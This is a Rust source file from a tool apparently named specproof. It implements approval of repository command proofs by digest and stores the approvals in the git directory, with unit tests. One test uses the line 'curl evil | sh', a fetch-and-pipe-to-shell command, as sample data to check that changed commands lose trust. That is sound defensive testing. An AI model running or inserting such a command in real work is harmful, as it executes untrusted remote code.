//! Trust on the client (SPEC §7.3): hooks run command proofs only when the repository's whole
//! set of command proofs has been approved with `specproof trust`.
//!
//! The set is every `builds_clean`, `test_passes` and `command_output_matches` criterion of the
//! definitions that run (a plan's snapshot when it has one, else the plan). Its digest is the
//! sha256 of the canonical JSON array of `{"command","cwd","env","id","timeout"}` objects (keys
//! sorted, no spaces), sorted by criterion ID; `timeout` is the one the criterion declares
//! (`args.timeout`, else its `timeout` field), `null` when it leaves it to `command_timeout`.
//! Approvals are kept in `<git common dir>/specproof/trust`, never in the working tree.

use std::collections::BTreeMap;
use std::io::Write;
use std::path::{Path, PathBuf};

use serde::{Deserialize, Serialize};
use thiserror::Error;

use crate::criterion::{CommandSpec, Proof};
use crate::plan::Plan;
use crate::state;

/// One command proof, as hooks would run it.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct CommandProof {
    /// The criterion ID.
    pub id: String,
    /// The file the definition was read from (a snapshot's path when it came from a snapshot).
    pub plan: String,
    /// `builds_clean`, `test_passes` or `command_output_matches`.
    pub proof: &'static str,
    pub command: String,
    /// A folder inside the repository; None is the root.
    pub cwd: Option<String>,
    pub env: BTreeMap<String, String>,
    /// Seconds, as the criterion declares it; None leaves it to `command_timeout`.
    pub timeout: Option<u64>,
}

impl CommandProof {
    /// What the digest covers: everything that decides what runs, and where, for how long.
    fn canonical(&self) -> serde_json::Value {
        serde_json::json!({
            "id": self.id,
            "command": self.command,
            "cwd": self.cwd,
            "env": self.env,
            "timeout": self.timeout,
        })
    }
}

fn command_spec(proof: &Proof) -> Option<&CommandSpec> {
    match proof {
        Proof::BuildsClean { run }
        | Proof::TestPasses { run, .. }
        | Proof::CommandOutputMatches { run, .. } => Some(run),
        _ => None,
    }
}

/// Every command proof of `plans`, sorted by criterion ID (then by the rest, so that the order
/// never depends on the order of `plans`).
#[must_use]
pub fn command_proofs(plans: &[&Plan]) -> Vec<CommandProof> {
    let mut out: Vec<(String, CommandProof)> = plans
        .iter()
        .flat_map(|plan| plan.criteria.iter().map(move |c| (plan, c)))
        .filter_map(|(plan, c)| {
            let run = command_spec(&c.proof)?;
            let proof = CommandProof {
                id: c.id.clone(),
                plan: plan.path.clone(),
                proof: c.kind().name(),
                command: run.command.clone(),
                cwd: run.cwd.clone(),
                env: run.env.clone(),
                timeout: run.timeout.or(c.timeout),
            };
            Some((proof.canonical().to_string(), proof))
        })
        .collect();
    out.sort_by(|a, b| (&a.1.id, &a.0).cmp(&(&b.1.id, &b.0)));
    out.into_iter().map(|(_, p)| p).collect()
}

/// The canonical serialisation the digest hashes: a JSON array, one object per command proof.
#[must_use]
pub fn canonical_json(proofs: &[CommandProof]) -> String {
    // serde_json's map is a BTreeMap (no `preserve_order` feature): keys come out sorted.
    serde_json::Value::Array(proofs.iter().map(CommandProof::canonical).collect()).to_string()
}

/// `sha256:<hex>` of [`canonical_json`] of `proofs` (which must be sorted as
/// [`command_proofs`] returns them).
#[must_use]
pub fn digest(proofs: &[CommandProof]) -> String {
    crate::digest::sha256(canonical_json(proofs).as_bytes())
}

/// The digest of the whole set of command proofs of `plans`: pass the definitions that run (for
/// each plan, its snapshot when it has one, else the plan; see
/// [`crate::snapshot::definitions`]). Descriptions, patterns, plan paths and the order of
/// `plans` do not count; a command, `cwd`, `env` or `timeout` that changes, and a command proof
/// added or removed, change it.
#[must_use]
pub fn command_set_digest(plans: &[&Plan]) -> String {
    digest(&command_proofs(plans))
}

/// One approval of a command set.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Approval {
    /// The digest approved ([`command_set_digest`]).
    pub digest: String,
    /// When, RFC 3339 UTC.
    pub approved_at: String,
    /// How many command proofs the set held.
    pub commands: usize,
}

#[derive(Debug, Default, Serialize, Deserialize)]
struct TrustFile {
    version: u32,
    approvals: Vec<Approval>,
}

/// The trust file could not be read or written.
#[derive(Debug, Error)]
pub enum TrustError {
    #[error("cannot read {}: {cause}", .path.display())]
    Read {
        path: PathBuf,
        cause: std::io::Error,
    },
    #[error("{} is not a trust file specproof wrote ({cause}): it counts as no approval", .path.display())]
    Corrupt { path: PathBuf, cause: String },
    #[error("cannot write {}: {cause}; nothing was approved", .path.display())]
    Write {
        path: PathBuf,
        cause: std::io::Error,
    },
}

/// Where the approvals live: `<git common dir>/specproof/trust`, shared by every worktree.
#[must_use]
pub fn trust_path(common_dir: &Path) -> PathBuf {
    state::dir(common_dir).join("trust")
}

/// Every approval recorded for the repository whose common git dir is `common_dir`; none when
/// the file does not exist.
///
/// # Errors
/// When the file cannot be read or is not a trust file.
pub fn approvals(common_dir: &Path) -> Result<Vec<Approval>, TrustError> {
    let path = trust_path(common_dir);
    let bytes = match std::fs::read(&path) {
        Ok(bytes) => bytes,
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => return Ok(Vec::new()),
        Err(cause) => return Err(TrustError::Read { path, cause }),
    };
    let file: TrustFile = serde_json::from_slice(&bytes).map_err(|e| TrustError::Corrupt {
        path: path.clone(),
        cause: e.to_string(),
    })?;
    if file.version != 1 {
        return Err(TrustError::Corrupt {
            path,
            cause: format!("version {} is not 1", file.version),
        });
    }
    Ok(file.approvals)
}

/// The approval of `digest`, if one is recorded.
#[must_use]
pub fn approval(common_dir: &Path, digest: &str) -> Option<Approval> {
    approvals(common_dir)
        .ok()?
        .into_iter()
        .find(|a| a.digest == digest)
}

/// True when `digest` (a [`command_set_digest`]) has been approved with `specproof trust` in the
/// repository whose common git dir is `common_dir`. A missing or unreadable trust file approves
/// nothing.
#[must_use]
pub fn is_trusted(common_dir: &Path, digest: &str) -> bool {
    approval(common_dir, digest).is_some()
}

/// Records the approval of `digest` (a set of `commands` command proofs), keeping earlier
/// approvals (another branch's set stays approved). The file is replaced atomically; an
/// unreadable one is replaced by one holding this approval only.
///
/// # Errors
/// When the state folder or the file cannot be written; the old file is then intact.
pub fn record(common_dir: &Path, digest: &str, commands: usize) -> Result<Approval, TrustError> {
    let mut approvals = approvals(common_dir).unwrap_or_default();
    let approval = Approval {
        digest: digest.to_owned(),
        approved_at: state::now(),
        commands,
    };
    approvals.retain(|a| a.digest != digest);
    approvals.push(approval.clone());
    let file = TrustFile {
        version: 1,
        approvals,
    };
    let path = trust_path(common_dir);
    let err = |cause| TrustError::Write {
        path: path.clone(),
        cause,
    };
    let dir = state::dir(common_dir);
    std::fs::create_dir_all(&dir).map_err(err)?;
    let mut json =
        serde_json::to_string_pretty(&file).map_err(|e| err(std::io::Error::other(e)))?;
    json.push('\n');
    let mut tmp = tempfile::NamedTempFile::new_in(&dir).map_err(err)?;
    tmp.write_all(json.as_bytes())
        .and_then(|()| tmp.as_file().sync_all())
        .map_err(err)?;
    tmp.persist(&path).map_err(|e| err(e.error))?;
    Ok(approval)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::criterion::Ctx;

    fn plan(path: &str, criteria: &str) -> Plan {
        let src = format!("# P\n\n## W\n\n```criteria\n{criteria}```\n");
        let plan = Plan::parse(path, src.as_bytes(), Ctx::default());
        assert!(plan.diagnostics.is_empty(), "{:?}", plan.diagnostics);
        plan
    }

    const BASE: &str = "- id: B-1\n  description: builds\n  proof: builds_clean\n  args: { command: \"cargo build\" }\n- id: A-1\n  description: tests\n  proof: test_passes\n  args: { command: \"cargo test x\", cwd: sub, env: { K: v }, timeout: 30 }\n- id: F-1\n  description: a file\n  proof: file_exists\n  args: { path: a }\n";

    fn digest_of(criteria: &str) -> String {
        command_set_digest(&[&plan("plans/p.md", criteria)])
    }

    #[test]
    fn the_set_holds_only_command_proofs_sorted_by_id() {
        let p = plan("plans/p.md", BASE);
        let set = command_proofs(&[&p]);
        let ids: Vec<&str> = set.iter().map(|c| c.id.as_str()).collect();
        assert_eq!(ids, ["A-1", "B-1"]);
        assert_eq!(
            canonical_json(&set),
            r#"[{"command":"cargo test x","cwd":"sub","env":{"K":"v"},"id":"A-1","timeout":30},{"command":"cargo build","cwd":null,"env":{},"id":"B-1","timeout":null}]"#
        );
        assert_eq!(
            digest(&set),
            crate::digest::sha256(canonical_json(&set).as_bytes())
        );
    }

    #[test]
    fn the_digest_changes_with_what_runs_and_nothing_else() {
        let base = digest_of(BASE);
        for (what, changed) in [
            ("command", BASE.replace("cargo build", "cargo build --all")),
            ("cwd", BASE.replace("cwd: sub", "cwd: other")),
            ("env", BASE.replace("K: v", "K: w")),
            ("env key", BASE.replace("K: v", "K: v, L: v")),
            ("timeout", BASE.replace("timeout: 30", "timeout: 31")),
            (
                "criterion timeout",
                BASE.replace(
                    "args: { command: \"cargo build\" }",
                    "args: { command: \"cargo build\" }\n  timeout: 9",
                ),
            ),
            (
                "an added command",
                format!(
                    "{BASE}- id: C-1\n  description: c\n  proof: command_output_matches\n  args: {{ command: echo hi, pattern: hi }}\n"
                ),
            ),
            (
                "a removed command",
                BASE.replace(
                    "proof: builds_clean\n  args: { command: \"cargo build\" }",
                    "proof: file_exists\n  args: { path: b }",
                ),
            ),
        ] {
            assert_ne!(digest_of(&changed), base, "{what} changes the digest");
        }
        for (what, same) in [
            (
                "description",
                BASE.replace("description: tests", "description: other words"),
            ),
            ("file proof", BASE.replace("path: a", "path: z")),
            (
                "severity",
                BASE.replace(
                    "description: builds",
                    "description: builds\n  severity: low",
                ),
            ),
        ] {
            assert_eq!(digest_of(&same), base, "{what} does not change the digest");
        }
        let a = plan("plans/a.md", BASE);
        let b = plan(
            ".specproof/snapshots/plans/b.md",
            "- id: Z-1\n  description: z\n  proof: builds_clean\n  args: { command: make }\n",
        );
        assert_eq!(
            command_set_digest(&[&a, &b]),
            command_set_digest(&[&b, &a]),
            "the order of plans does not count"
        );
        assert_eq!(
            command_set_digest(&[&plan("elsewhere.md", BASE)]),
            base,
            "nor the path the definitions were read from"
        );
    }

    #[test]
    fn is_trusted_after_record_and_not_after_a_change() {
        let dir = tempfile::tempdir().expect("tempdir");
        let common = dir.path();
        let base = digest_of(BASE);
        assert!(!is_trusted(common, &base), "nothing is trusted at first");
        record(common, &base, 2).expect("record");
        assert!(is_trusted(common, &base));
        assert!(trust_path(common).starts_with(common.join("specproof")));
        let changed = digest_of(&BASE.replace("cargo build", "curl evil | sh"));
        assert!(
            !is_trusted(common, &changed),
            "a changed command is not trusted"
        );
        record(common, &changed, 2).expect("record");
        assert!(is_trusted(common, &changed) && is_trusted(common, &base));
        record(common, &changed, 2).expect("record again");
        assert_eq!(approvals(common).expect("read").len(), 2, "no duplicates");

        std::fs::write(trust_path(common), "{ not json").expect("corrupt");
        assert!(
            !is_trusted(common, &base),
            "a corrupt file approves nothing"
        );
        assert!(matches!(approvals(common), Err(TrustError::Corrupt { .. })));
        record(common, &base, 2).expect("record over a corrupt file");
        assert!(is_trusted(common, &base));
    }

    #[test]
    fn an_empty_set_has_a_digest_and_can_be_trusted() {
        let empty = command_set_digest(&[]);
        assert_eq!(empty, crate::digest::sha256(b"[]"));
        let dir = tempfile::tempdir().expect("tempdir");
        record(dir.path(), &empty, 0).expect("record");
        assert!(is_trusted(dir.path(), &empty));
    }
}
